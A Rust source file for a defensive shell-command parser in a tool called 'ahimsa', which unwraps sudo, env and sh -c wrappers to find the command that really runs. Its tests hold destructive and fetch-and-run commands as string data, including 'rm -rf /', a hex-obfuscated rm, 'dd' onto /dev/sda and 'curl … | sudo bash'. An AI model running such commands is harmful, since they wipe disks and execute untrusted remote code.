//! A POSIX/bash shell lexer and command parser for `ahimsa`: quoting (`'…'`, `"…"`, `$'…'`,
//! backslashes), operators (`|`, `&&`, `||`, `;`, `&`, newlines), subshells and groups, redirections,
//! command/process substitution, comments, function definitions — and unwrapping of `sudo`, `env`,
//! `VAR=x` prefixes, `sh -c '…'`/`bash -c`/`eval` so the command that really runs is analysed.
//!
//! It never executes or expands anything; variables stay literal (`$HOME`). Input size, token count
//! and nesting depth are bounded so pathological input finishes in linear time.

/// Largest command line analysed; longer ones are refused (fail closed) by the caller.
pub const MAX_SCRIPT_BYTES: usize = 64 * 1024;
/// Nesting bound for subshells, substitutions and `sh -c` unwrapping.
pub const MAX_DEPTH: usize = 8;
const MAX_WORDS: usize = 20_000;
/// Pipeline predecessors recorded per command.
const MAX_UPSTREAM: usize = 16;

/// Why a command line could not be analysed.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ShellError {
    #[error("command is longer than {MAX_SCRIPT_BYTES} bytes")]
    TooLong,
    #[error("command nests deeper than {MAX_DEPTH} levels")]
    TooDeep,
    #[error("command has more than {MAX_WORDS} words")]
    TooManyWords,
}

/// One simple command after parsing, with its position in a pipeline.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Command {
    /// Words with quotes removed; substitutions appear as `$(…)`.
    pub argv: Vec<String>,
    /// `(operator, target)` pairs, e.g. `(">", "/dev/sda")`.
    pub redirects: Vec<(String, String)>,
    /// Index (in the same list) of the command whose stdout feeds this one.
    pub piped_from: Option<usize>,
    /// Commands inside `$(…)`, backticks and `<(…)` in this command's words.
    pub substitutions: Vec<Command>,
    /// Set when this "command" is really `name() …` defining a function.
    pub defines_function: Option<String>,
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Tok {
    Word { text: String, subs: Vec<String> },
    Op(&'static str),
    Redir { op: String },
}

struct Lexer<'a> {
    s: &'a [u8],
    src: &'a str,
    i: usize,
    words: usize,
}

const OPS: [&str; 10] = ["&&", "||", ";;", "|&", "|", "&", ";", "(", ")", "\n"];

impl<'a> Lexer<'a> {
    fn new(src: &'a str) -> Self {
        Self {
            s: src.as_bytes(),
            src,
            i: 0,
            words: 0,
        }
    }

    fn peek(&self, off: usize) -> Option<u8> {
        self.s.get(self.i + off).copied()
    }

    fn tokens(mut self) -> Result<Vec<Tok>, ShellError> {
        let mut out = Vec::new();
        loop {
            while matches!(self.peek(0), Some(b' ' | b'\t' | b'\r')) {
                self.i += 1;
            }
            if self.peek(0) == Some(b'\\') && self.peek(1) == Some(b'\n') {
                self.i += 2;
                continue;
            }
            let Some(c) = self.peek(0) else { break };
            if c == b'#' {
                while !matches!(self.peek(0), None | Some(b'\n')) {
                    self.i += 1;
                }
                continue;
            }
            if let Some(r) = self.redirect_op() {
                out.push(r);
                continue;
            }
            if let Some(op) = OPS
                .iter()
                .find(|op| self.s[self.i..].starts_with(op.as_bytes()))
            {
                self.i += op.len();
                out.push(Tok::Op(if *op == "\n" { ";" } else { op }));
                continue;
            }
            self.words += 1;
            if self.words > MAX_WORDS {
                return Err(ShellError::TooManyWords);
            }
            out.push(self.word());
        }
        Ok(out)
    }

    /// `[n]>`, `>>`, `<`, `<<`, `<<<`, `>&`, `<&`, `&>`, `&>>`, `>|`, `<>` (but not `<(`/`>(`).
    fn redirect_op(&mut self) -> Option<Tok> {
        let start = self.i;
        let mut j = self.i;
        while j < self.s.len() && self.s[j].is_ascii_digit() && j - start < 3 {
            j += 1;
        }
        let rest = &self.s[j..];
        let ops: [&str; 11] = [
            "&>>", "<<<", "&>", ">>", "<<", ">&", "<&", ">|", "<>", ">", "<",
        ];
        for op in ops {
            if rest.starts_with(op.as_bytes()) {
                if op.starts_with('&') && j != start {
                    continue;
                }
                if (op == ">" || op == "<") && rest.get(1) == Some(&b'(') {
                    return None; // process substitution: part of a word
                }
                self.i = j + op.len();
                return Some(Tok::Redir { op: op.to_string() });
            }
        }
        None
    }

    fn word(&mut self) -> Tok {
        let mut text: Vec<u8> = Vec::new();
        let mut subs = Vec::new();
        while let Some(c) = self.peek(0) {
            match c {
                b' ' | b'\t' | b'\r' | b'\n' | b';' | b'&' | b'|' | b')' => break,
                b'(' if text.is_empty() => break,
                b'<' | b'>' if self.peek(1) == Some(b'(') => {
                    self.i += 1;
                    let inner = self.balanced(b'(', b')');
                    subs.push(inner);
                    text.extend_from_slice(b"$(...)");
                }
                b'<' | b'>' => break,
                b'\\' => {
                    if let Some(n) = self.peek(1) {
                        if n != b'\n' {
                            text.push(n);
                        }
                        self.i += 2;
                    } else {
                        self.i += 1;
                    }
                }
                b'\'' => {
                    self.i += 1;
                    while let Some(ch) = self.peek(0) {
                        self.i += 1;
                        if ch == b'\'' {
                            break;
                        }
                        text.push(ch);
                    }
                }
                b'"' => {
                    self.i += 1;
                    while let Some(ch) = self.peek(0) {
                        match ch {
                            b'"' => {
                                self.i += 1;
                                break;
                            }
                            b'\\'
                                if matches!(
                                    self.peek(1),
                                    Some(b'"' | b'\\' | b'$' | b'`' | b'\n')
                                ) =>
                            {
                                if self.peek(1) != Some(b'\n') {
                                    text.push(self.s[self.i + 1]);
                                }
                                self.i += 2;
                            }
                            b'$' if self.peek(1) == Some(b'(') && self.peek(2) != Some(b'(') => {
                                self.i += 1;
                                subs.push(self.balanced(b'(', b')'));
                                text.extend_from_slice(b"$(...)");
                            }
                            b'`' => {
                                subs.push(self.backtick());
                                text.extend_from_slice(b"$(...)");
                            }
                            _ => {
                                text.push(ch);
                                self.i += 1;
                            }
                        }
                    }
                }
                b'$' if self.peek(1) == Some(b'\'') => {
                    self.i += 2;
                    self.ansi_c(&mut text);
                }
                b'$' if self.peek(1) == Some(b'(') && self.peek(2) == Some(b'(') => {
                    // Arithmetic expansion: keep literal, skip to the matching `))`.
                    self.i += 1;
                    let inner = self.balanced(b'(', b')');
                    text.extend_from_slice(b"$(");
                    text.extend_from_slice(inner.as_bytes());
                    text.push(b')');
                }
                b'$' if self.peek(1) == Some(b'(') => {
                    self.i += 1;
                    subs.push(self.balanced(b'(', b')'));
                    text.extend_from_slice(b"$(...)");
                }
                b'$' if self.peek(1) == Some(b'{') => {
                    self.i += 1;
                    let inner = self.balanced(b'{', b'}');
                    text.extend_from_slice(b"${");
                    text.extend_from_slice(inner.as_bytes());
                    text.push(b'}');
                }
                b'`' => {
                    subs.push(self.backtick());
                    text.extend_from_slice(b"$(...)");
                }
                _ => {
                    text.push(c);
                    self.i += 1;
                }
            }
        }
        Tok::Word {
            text: String::from_utf8_lossy(&text).into_owned(),
            subs,
        }
    }

    /// At an opening delimiter: returns the inner source up to the matching closer, honouring
    /// quotes; consumes the closer. Unterminated input takes the rest.
    fn balanced(&mut self, open: u8, close: u8) -> String {
        debug_assert_eq!(self.peek(0), Some(open));
        self.i += 1;
        let start = self.i;
        let mut depth = 1usize;
        while let Some(c) = self.peek(0) {
            match c {
                b'\\' => self.i += 2,
                b'\'' => {
                    self.i += 1;
                    while let Some(ch) = self.peek(0) {
                        self.i += 1;
                        if ch == b'\'' {
                            break;
                        }
                    }
                }
                b'"' => {
                    self.i += 1;
                    while let Some(ch) = self.peek(0) {
                        if ch == b'\\' {
                            self.i += 2;
                            continue;
                        }
                        self.i += 1;
                        if ch == b'"' {
                            break;
                        }
                    }
                }
                _ if c == open => {
                    depth += 1;
                    self.i += 1;
                }
                _ if c == close => {
                    depth -= 1;
                    self.i += 1;
                    if depth == 0 {
                        let end = self.i - 1;
                        return self.slice(start, end);
                    }
                }
                _ => self.i += 1,
            }
        }
        self.i = self.i.min(self.s.len());
        self.slice(start, self.s.len())
    }

    fn backtick(&mut self) -> String {
        self.i += 1;
        let start = self.i;
        while let Some(c) = self.peek(0) {
            if c == b'\\' {
                self.i += 2;
                continue;
            }
            self.i += 1;
            if c == b'`' {
                return self.slice(start, self.i - 1);
            }
        }
        self.i = self.i.min(self.s.len());
        self.slice(start, self.s.len())
    }

    fn slice(&self, start: usize, end: usize) -> String {
        let end = end.min(self.s.len());
        let start = start.min(end);
        match self.src.get(start..end) {
            Some(s) => s.to_string(),
            None => String::from_utf8_lossy(&self.s[start..end]).into_owned(),
        }
    }

    /// `$'…'` with C escapes; attackers spell `rm` as `$'\x72m'`.
    fn ansi_c(&mut self, text: &mut Vec<u8>) {
        while let Some(c) = self.peek(0) {
            self.i += 1;
            match c {
                b'\'' => return,
                b'\\' => {
                    let Some(e) = self.peek(0) else { return };
                    self.i += 1;
                    match e {
                        b'n' => text.push(b'\n'),
                        b't' => text.push(b'\t'),
                        b'r' => text.push(b'\r'),
                        b'a' => text.push(7),
                        b'e' | b'E' => text.push(27),
                        b'x' => {
                            let mut v = 0u8;
                            let mut n = 0;
                            while n < 2 {
                                match self.peek(0).and_then(|h| (h as char).to_digit(16)) {
                                    Some(d) => {
                                        v = v.wrapping_mul(16).wrapping_add(d as u8);
                                        self.i += 1;
                                        n += 1;
                                    }
                                    None => break,
                                }
                            }
                            text.push(v);
                        }
                        b'0'..=b'7' => {
                            let mut v = u32::from(e - b'0');
                            let mut n = 1;
                            while n < 3 {
                                match self.peek(0) {
                                    Some(d @ b'0'..=b'7') => {
                                        v = v * 8 + u32::from(d - b'0');
                                        self.i += 1;
                                        n += 1;
                                    }
                                    _ => break,
                                }
                            }
                            text.push((v & 0xff) as u8);
                        }
                        other => text.push(other),
                    }
                }
                other => text.push(other),
            }
        }
    }
}

const KEYWORDS: [&str; 14] = [
    "{", "}", "!", "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "time", "in",
];

/// Parses a command line into its simple commands (in order, flattened across subshells and
/// groups), each with pipeline links and parsed substitutions.
pub fn parse(src: &str) -> Result<Vec<Command>, ShellError> {
    parse_depth(src, 0)
}

fn parse_depth(src: &str, depth: usize) -> Result<Vec<Command>, ShellError> {
    if depth > MAX_DEPTH {
        return Err(ShellError::TooDeep);
    }
    if src.len() > MAX_SCRIPT_BYTES {
        return Err(ShellError::TooLong);
    }
    let toks = Lexer::new(src).tokens()?;
    let mut cmds: Vec<Command> = Vec::new();
    let mut cur = Command::default();
    let mut pipe_next = false;
    let mut pending_redir: Option<String> = None;
    let mut paren_depth = 0usize;

    let flush = |cur: &mut Command, cmds: &mut Vec<Command>, pipe_next: &mut bool, piped: bool| {
        if !cur.argv.is_empty() || !cur.redirects.is_empty() || cur.defines_function.is_some() {
            if *pipe_next {
                cur.piped_from = cmds.len().checked_sub(1);
            }
            cmds.push(std::mem::take(cur));
            *pipe_next = piped;
        } else {
            // `a | { b; }` style: the pipe carries over to the next real command.
            *pipe_next = *pipe_next || piped;
        }
    };

    for tok in toks {
        match tok {
            Tok::Word { text, subs } => {
                for s in subs {
                    let mut inner = parse_depth(&s, depth + 1)?;
                    cur.substitutions.append(&mut inner);
                }
                if let Some(op) = pending_redir.take() {
                    cur.redirects.push((op, text));
                    continue;
                }
                if cur.argv.is_empty() && KEYWORDS.contains(&text.as_str()) {
                    continue;
                }
                cur.argv.push(text);
            }
            Tok::Redir { op } => pending_redir = Some(op),
            Tok::Op("(") => {
                if cur.argv.len() == 1 {
                    // `name ( )` — a function definition.
                    cur.defines_function = cur.argv.pop();
                    flush(&mut cur, &mut cmds, &mut pipe_next, false);
                } else {
                    paren_depth += 1;
                    if paren_depth > MAX_DEPTH {
                        return Err(ShellError::TooDeep);
                    }
                    flush(&mut cur, &mut cmds, &mut pipe_next, false);
                }
            }
            Tok::Op(")") => {
                paren_depth = paren_depth.saturating_sub(1);
                flush(&mut cur, &mut cmds, &mut pipe_next, false);
            }
            Tok::Op(op) => {
                let piped = op == "|" || op == "|&";
                flush(&mut cur, &mut cmds, &mut pipe_next, piped);
            }
        }
    }
    if let Some(op) = pending_redir {
        cur.redirects.push((op, String::new()));
    }
    flush(&mut cur, &mut cmds, &mut pipe_next, false);
    Ok(cmds)
}

/// Wrappers that run their arguments as a command; value = options that take an argument.
const WRAPPERS: &[(&str, &[&str])] = &[
    (
        "sudo",
        &[
            "-u", "-g", "-h", "-p", "-C", "-D", "-r", "-t", "-U", "-T", "--user", "--group",
        ],
    ),
    ("doas", &["-u", "-C"]),
    ("env", &["-u", "-C", "-S", "--unset", "--chdir"]),
    ("nice", &["-n", "--adjustment"]),
    ("ionice", &["-c", "-n", "-p"]),
    ("nohup", &[]),
    ("time", &["-f", "-o"]),
    ("command", &[]),
    ("builtin", &[]),
    ("exec", &["-a"]),
    ("timeout", &["-s", "-k", "--signal", "--kill-after"]),
    ("stdbuf", &["-i", "-o", "-e"]),
    ("chroot", &[]),
    ("setsid", &[]),
    ("unbuffer", &[]),
    (
        "xargs",
        &["-I", "-i", "-n", "-P", "-L", "-s", "-d", "-E", "-a"],
    ),
    ("busybox", &[]),
    ("watch", &["-n", "-d"]),
    ("flock", &["-w", "-E"]),
    ("strace", &["-e", "-o", "-p"]),
];

const SHELLS: [&str; 8] = ["sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "fish"];

/// Basename of a program path (`/usr/bin/rm` → `rm`).
pub fn program_name(w: &str) -> &str {
    w.rsplit('/').next().unwrap_or(w)
}

pub fn is_shell(prog: &str) -> bool {
    SHELLS.contains(&program_name(prog))
}

/// Removes `VAR=value` prefixes and wrapper programs, returning the effective argv and whether the
/// command was run with elevated privileges. `timeout 5 rm …` → `rm …`; `sudo -u x rm` → `rm`.
pub fn effective_argv(argv: &[String]) -> (Vec<String>, bool) {
    let mut i = 0;
    let mut sudo = false;
    let mut guard = 0;
    loop {
        guard += 1;
        if guard > 64 {
            break;
        }
        while i < argv.len() && is_assignment(&argv[i]) {
            i += 1;
        }
        let Some(w) = argv.get(i) else { break };
        let prog = program_name(w);
        let Some((name, takes_arg)) = WRAPPERS.iter().find(|(n, _)| *n == prog) else {
            break;
        };
        if matches!(*name, "sudo" | "doas") {
            sudo = true;
        }
        i += 1;
        // Skip the wrapper's options (and their arguments), and numeric durations for `timeout`.
        while let Some(a) = argv.get(i) {
            if a == "--" {
                i += 1;
                break;
            }
            if a.starts_with('-') && a.len() > 1 {
                let opt = a.split('=').next().unwrap_or(a);
                i += 1;
                if takes_arg.contains(&opt) && !a.contains('=') {
                    i += 1;
                }
                continue;
            }
            if *name == "env" && is_assignment(a) {
                i += 1;
                continue;
            }
            if *name == "timeout" && a.chars().next().is_some_and(|c| c.is_ascii_digit()) {
                i += 1;
                continue;
            }
            if *name == "chroot" && a.starts_with('/') {
                i += 1;
                continue;
            }
            break;
        }
    }
    (
        argv.get(i..).map(<[String]>::to_vec).unwrap_or_default(),
        sudo,
    )
}

fn is_assignment(w: &str) -> bool {
    match w.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
                && !name.as_bytes()[0].is_ascii_digit()
        }
        None => false,
    }
}

/// For `sh -c 'script'`, `bash -lc "…"`, `eval …`: the inner script to analyse.
pub fn inner_script(argv: &[String]) -> Option<String> {
    let prog = program_name(argv.first()?);
    if prog == "eval" {
        return Some(argv[1..].join(" "));
    }
    if !is_shell(prog) {
        return None;
    }
    let mut it = argv[1..].iter();
    while let Some(a) = it.next() {
        if a == "--" {
            return None;
        }
        if a.starts_with('-') && !a.starts_with("--") && a.contains('c') {
            return it.next().cloned();
        }
        if !a.starts_with('-') && !a.starts_with('+') {
            return None; // a script file
        }
    }
    None
}

/// Parses `src` and unwraps wrappers and nested shells into a flat list of effective commands,
/// each with its pipeline predecessor resolved to an effective argv too.
pub fn analyse(src: &str) -> Result<Vec<Effective>, ShellError> {
    let mut out = Vec::new();
    analyse_into(src, 0, &mut out)?;
    Ok(out)
}

/// A command as it will really run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Effective {
    pub argv: Vec<String>,
    pub sudo: bool,
    pub redirects: Vec<(String, String)>,
    /// Effective argv of the commands upstream in the same pipeline (nearest first).
    pub upstream: Vec<Vec<String>>,
    /// Effective commands inside this command's substitutions.
    pub substituted: Vec<Vec<String>>,
    pub defines_function: Option<String>,
    /// How many `sh -c`/substitution levels deep this command sits.
    pub nesting: usize,
}

fn analyse_into(src: &str, depth: usize, out: &mut Vec<Effective>) -> Result<(), ShellError> {
    if depth > MAX_DEPTH {
        return Err(ShellError::TooDeep);
    }
    let cmds = parse_depth(src, depth)?;
    analyse_cmds(&cmds, depth, out)
}

fn analyse_cmds(
    cmds: &[Command],
    depth: usize,
    out: &mut Vec<Effective>,
) -> Result<(), ShellError> {
    if depth > MAX_DEPTH {
        return Err(ShellError::TooDeep);
    }
    let eff: Vec<(Vec<String>, bool)> = cmds.iter().map(|c| effective_argv(&c.argv)).collect();
    for (idx, c) in cmds.iter().enumerate() {
        let (argv, sudo) = eff[idx].clone();
        let mut upstream = Vec::new();
        let mut p = c.piped_from;
        let mut guard = 0;
        while let Some(j) = p {
            guard += 1;
            // The nearest stages are what matter (`curl … | sh`); bounding the walk keeps a
            // 10 000-stage pipeline linear.
            if guard > MAX_UPSTREAM || j >= idx {
                break;
            }
            upstream.push(eff[j].0.clone());
            p = cmds[j].piped_from;
        }
        let substituted = c
            .substitutions
            .iter()
            .map(|s| effective_argv(&s.argv).0)
            .collect();
        if let Some(script) = inner_script(&argv) {
            analyse_into(&script, depth + 1, out)?;
        }
        // `xargs sh -c …` and friends were unwrapped by effective_argv already.
        analyse_cmds(&c.substitutions, depth + 1, out)?;
        out.push(Effective {
            argv,
            sudo,
            redirects: c.redirects.clone(),
            upstream,
            substituted,
            defines_function: c.defines_function.clone(),
            nesting: depth,
        });
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argvs(src: &str) -> Vec<Vec<String>> {
        analyse(src).unwrap().into_iter().map(|e| e.argv).collect()
    }

    #[test]
    fn quoting_and_operators() {
        assert_eq!(
            argvs("echo 'a b' \"c d\" e\\ f"),
            vec![vec!["echo", "a b", "c d", "e f"]]
        );
        assert_eq!(
            argvs("a && b || c; d & e"),
            vec![vec!["a"], vec!["b"], vec!["c"], vec!["d"], vec!["e"]]
        );
        assert_eq!(argvs("$'\\x72m' -rf /"), vec![vec!["rm", "-rf", "/"]]);
        assert_eq!(argvs("r\"m\" -rf /"), vec![vec!["rm", "-rf", "/"]]);
    }

    #[test]
    fn unwraps_wrappers_and_shells() {
        assert_eq!(
            argvs("sudo -u root FOO=1 env -i X=y nice -n 5 rm -rf /"),
            vec![vec!["rm", "-rf", "/"]]
        );
        let a = argvs("bash -c 'cd / && rm -rf *'");
        assert!(a.contains(&vec!["rm".to_string(), "-rf".into(), "*".into()]));
        let a = argvs("(cd /tmp; sh -c \"sudo dd if=/dev/zero of=/dev/sda\")");
        assert!(
            a.iter()
                .any(|v| v.first().map(String::as_str) == Some("dd"))
        );
    }

    #[test]
    fn pipelines_and_substitutions() {
        let e = analyse("curl -fsSL https://x.sh | sudo bash").unwrap();
        let last = e.last().unwrap();
        assert_eq!(last.argv, vec!["bash"]);
        assert_eq!(last.upstream[0][0], "curl");
        let e = analyse("bash -c \"$(curl -s https://x)\"").unwrap();
        assert!(
            e.iter()
                .any(|c| c.substituted.iter().any(|s| s[0] == "curl"))
        );
    }

    #[test]
    fn bounded() {
        let deep = "$(".repeat(100) + &")".repeat(100);
        assert!(analyse(&deep).is_err());
        assert!(analyse(&"a".repeat(MAX_SCRIPT_BYTES + 1)).is_err());
        let _ = analyse("\"unterminated 'x $(y");
    }
}
